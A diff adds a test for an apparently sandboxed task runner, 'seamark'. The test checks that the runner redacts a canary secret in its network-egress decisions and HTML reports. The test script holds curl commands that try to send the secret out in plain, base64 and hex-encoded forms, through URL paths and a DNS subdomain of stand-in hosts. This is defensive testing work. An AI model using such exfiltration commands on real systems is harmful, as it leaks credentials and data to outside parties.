@@ -70,3 +70,46 @@ it('fails an item that left one in a file, names the file and the line, and stor
   expect(storage).not.toContain(base64)
   for (const text of [ran.out, ran.err, out]) expect(text).not.toContain(base64)
 }, 30_000)
+
+it('tells no secret in the decisions about what a program asked to reach', async () => {
+  const hex = Buffer.from(value).toString('hex')
+  // Put together inside only: the plan is a record too.
+  const [begin, end] = [value.slice(0, 9), value.slice(9)]
+  const asks = [
+    `whole=${begin}; whole="$whole${end}"`,
+    'hex=$(printf %s "$whole" | od -An -tx1 | tr -d " \\n")',
+    `base=$(node -p 'JSON.parse(process.env.SEAMARK_ENDPOINTS)["api.example"]')`,
+    'curl -s -o /dev/null "$base/plain/$whole/end" || true',
+    'curl -s -o /dev/null "$base/coded/$(printf %s "$whole" | base64 -w0)/end" || true',
+    'curl -s -o /dev/null "https://$hex.denied.example/" || true',
+  ]
+  here.write(
+    'asks.yaml',
+    `version: 1
+defaults: { executor: sandbox }
+items:
+  - id: asks
+    run: |
+${asks.map((line) => `      ${line}`).join('\n')}
+    network: { allow: [{ host: api.example, mode: endpoint, paths: [/v1/*] }] }
+`,
+  )
+  const asked = await here.seamark('run', 'asks.yaml', '--id', 'asks', '--json', '--config', 'seamark.config.mjs')
+  const decided = asked.out
+    .trim()
+    .split('\n')
+    .map((line): { readonly kind?: string; readonly data?: unknown } => JSON.parse(line))
+    .filter(({ kind }) => kind === 'egress.decided')
+  expect(decided.map(({ data }) => data)).toEqual([
+    expect.objectContaining({ reason: 'path', host: 'api.example', path: '/plain/[redacted:canary]/end' }),
+    expect.objectContaining({ reason: 'path', host: 'api.example', path: '/coded/[redacted:canary]/end' }),
+    expect.objectContaining({ reason: 'not-listed', host: '[redacted:canary].denied.example' }),
+  ])
+  const page = join(here.dir, 'asks.html')
+  const report = await here.seamark('report', 'asks', '-o', page, '--config', 'seamark.config.mjs')
+  expect(report).toMatchObject({ code: 0 })
+  const shown = readFileSync(page, 'utf8')
+  expect(shown).toContain('/plain/[redacted:canary]/end')
+  for (const text of [asked.out, asked.err, shown])
+    for (const form of [value, base64, hex]) expect(text).not.toContain(form)
+}, 60_000)
